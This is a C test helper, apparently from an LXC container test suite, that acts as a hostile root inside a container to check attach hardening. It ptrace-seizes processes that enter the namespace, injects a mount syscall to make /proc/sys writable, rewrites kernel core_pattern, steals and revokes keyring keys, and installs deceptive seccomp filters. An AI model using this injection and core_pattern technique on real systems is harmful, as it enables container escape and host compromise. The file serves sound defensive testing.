/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * What root inside does to whoever enters, for tests/bats/attach.bats.  The judge is the host.
 *
 *   intruder seize LOG          takes over each process that appears in the pid namespace, says in
 *                               LOG what it held, and by it makes /proc/sys writable and rewrites
 *                               core_pattern
 *   intruder freeze PROCS FILE TEXT   writes TEXT into FILE once PROCS, a cgroup.procs, names a
 *                               process that it did not name before
 *   intruder with-key FILE COMMAND...  runs COMMAND with a session key ring that holds a key, whose
 *                               number is then in FILE; 0 if the key can be read afterwards
 *   intruder fake capset|fork   as init: has a filter that says it was done, and does it not
 *   intruder take-key NUMBER    reads and revokes that key: 0 if either was possible
 */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/keyctl.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define AHEAD 64	/* numbers that are watched */
#define SYS_ADMIN 21	/* CAP_SYS_ADMIN */
#define WAIT_TRIES 2000 /* of 0.1 ms */
#define SETS_MAX 65536

static void nap(long us)
{
	const struct timespec t = { 0, us * 1000 };

	(void)nanosleep(&t, NULL);
}

/* --- Taking over ----------------------------------------------------------------- */

static uint64_t read_field(pid_t pid, const char *key)
{
	char path[64], line[256];
	uint64_t value = 0;
	FILE *f;

	(void)snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	f = fopen(path, "re");
	while (f && fgets(line, sizeof(line), f)) {
		if (strncmp(line, key, strlen(key)) == 0)
			value = strtoull(line + strlen(key), NULL, 16);
	}
	if (f)
		(void)fclose(f);
	return value;
}

static bool wait_stop(pid_t pid)
{
	int status;

	for (int i = 0; i < WAIT_TRIES; i++) {
		if (waitpid(pid, &status, WNOHANG | __WALL) == pid)
			return WIFSTOPPED(status);
		nap(100);
	}
	return false;
}

#ifdef __x86_64__
/* mount(2) of /proc/sys anew, writable, by the process that is stopped. */
static void act(pid_t pid)
{
	static const char path[16] = "/proc/sys";
	const uint64_t code = 0xcc050f; /* syscall; int3 */
	struct user_regs_struct regs;
	unsigned long at;
	long words[2];

	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
		return;
	at = (regs.rsp - 4096) & ~15ul;
	memcpy(words, path, sizeof(words));
	(void)ptrace(PTRACE_POKEDATA, pid, at, words[0]);
	(void)ptrace(PTRACE_POKEDATA, pid, at + 8, words[1]);
	(void)ptrace(PTRACE_POKEDATA, pid, regs.rip, code);
	regs.rax = SYS_mount;
	regs.orig_rax = (unsigned long)-1;
	regs.rdi = 0;
	regs.rsi = at;
	regs.rdx = 0;
	regs.r10 = MS_REMOUNT | MS_BIND;
	regs.r8 = 0;
	if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0 || ptrace(PTRACE_CONT, pid, 0, 0) < 0)
		return;
	(void)wait_stop(pid);
}
#else
static void act(pid_t pid)
{
	(void)pid;
}
#endif

static void rewrite(FILE *log)
{
	int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);

	if (fd >= 0 && write(fd, "|/intruder\n", 11) == 11)
		fprintf(log, "rewrote core_pattern\n");
	if (fd >= 0)
		(void)close(fd);
}

static void take_over(FILE *log, pid_t pid, uint64_t own)
{
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return;
	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && wait_stop(pid)) {
		uint64_t held = read_field(pid, "CapPrm:");

		fprintf(log, "seized %llx filters %llx%s\n", (unsigned long long)held,
			(unsigned long long)read_field(pid, "Seccomp:"),
			held & ~own ? " more than mine" : "");
		if (held >> SYS_ADMIN & 1) {
			act(pid);
			rewrite(log);
			(void)kill(pid, SIGKILL);
		}
	}
	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
	fflush(log);
}

static int seize(const char *name)
{
	FILE *log = fopen(name, "we");
	uint64_t own = read_field(getpid(), "CapBnd:");
	pid_t next = getpid() + 1;

	if (!log)
		return 1;
	fprintf(log, "ready\n");
	fflush(log);
	for (;;) {
		for (pid_t pid = next; pid < next + AHEAD; pid++) {
			if (kill(pid, 0) < 0)
				continue;
			next = pid + 1;
			take_over(log, pid, own);
			break;
		}
	}
}

/* --- Freezing ---------------------------------------------------------------------- */

static size_t read_all(const char *name, char *buf)
{
	int fd = open(name, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, SETS_MAX - 1);

	if (fd >= 0)
		(void)close(fd);
	buf[n < 0 ? 0 : n] = '\0';
	return n < 0 ? 0 : (size_t)n;
}

static size_t count(const char *text)
{
	size_t n = 0;

	while ((text = strchr(text, '\n'))) {
		n++;
		text++;
	}
	return n;
}

static int freeze(const char *procs, const char *file, const char *text)
{
	static char now[SETS_MAX];
	size_t before;
	int fd = open(file, O_WRONLY | O_CLOEXEC);

	if (fd < 0)
		return 1;
	(void)read_all(procs, now);
	before = count(now);
	for (;;) {
		(void)read_all(procs, now);
		if (count(now) > before)
			break;
		/* Whoever started us leaves. */
		before = count(now);
		nap(20);
	}
	return write(fd, text, strlen(text)) < 0;
}

/* --- Keys ---------------------------------------------------------------------------- */

static int with_key(const char *file, char *argv[])
{
	char buf[16];
	long key;
	FILE *f;
	pid_t pid;

	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0)
		return 2;
	key = syscall(SYS_add_key, "user", "lxc-harden-test", "secret", 6,
		      KEY_SPEC_SESSION_KEYRING);
	f = fopen(file, "we");
	if (key < 0 || !f)
		return 2;
	fprintf(f, "%ld\n", key);
	(void)fclose(f);
	pid = fork();
	if (pid == 0) {
		(void)execvp(argv[0], argv);
		_exit(127);
	}
	(void)waitpid(pid, NULL, 0);
	return syscall(SYS_keyctl, KEYCTL_READ, key, buf, sizeof(buf)) != 6;
}

static int take_key(const char *number)
{
	long key = strtol(number, NULL, 10);
	char buf[16];
	bool took = syscall(SYS_keyctl, KEYCTL_READ, key, buf, sizeof(buf)) == 6;

	if (syscall(SYS_keyctl, KEYCTL_REVOKE, key) == 0)
		took = true;
	return !took;
}

/* --- Filters ------------------------------------------------------------------------- */

static int fake(bool caps)
{
	const unsigned int call[2] = { caps ? SYS_capset : SYS_clone,
				       caps ? SYS_capset : SYS_clone3 };
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, call[0], 2, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, call[1], 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO),
	};
	struct sock_fprog program = { sizeof(code) / sizeof(code[0]), code };

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
	    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) < 0)
		return 1;
	for (;;)
		(void)pause();
}

int main(int argc, char *argv[])
{
	if (argc == 3 && strcmp(argv[1], "seize") == 0)
		return seize(argv[2]);
	if (argc == 5 && strcmp(argv[1], "freeze") == 0)
		return freeze(argv[2], argv[3], argv[4]);
	if (argc > 3 && strcmp(argv[1], "with-key") == 0)
		return with_key(argv[2], argv + 3);
	if (argc == 3 && strcmp(argv[1], "fake") == 0)
		return fake(strcmp(argv[2], "capset") == 0);
	if (argc == 3 && strcmp(argv[1], "take-key") == 0)
		return take_key(argv[2]);
	fprintf(stderr, "usage: see the head of intruder.c\n");
	return 2;
}
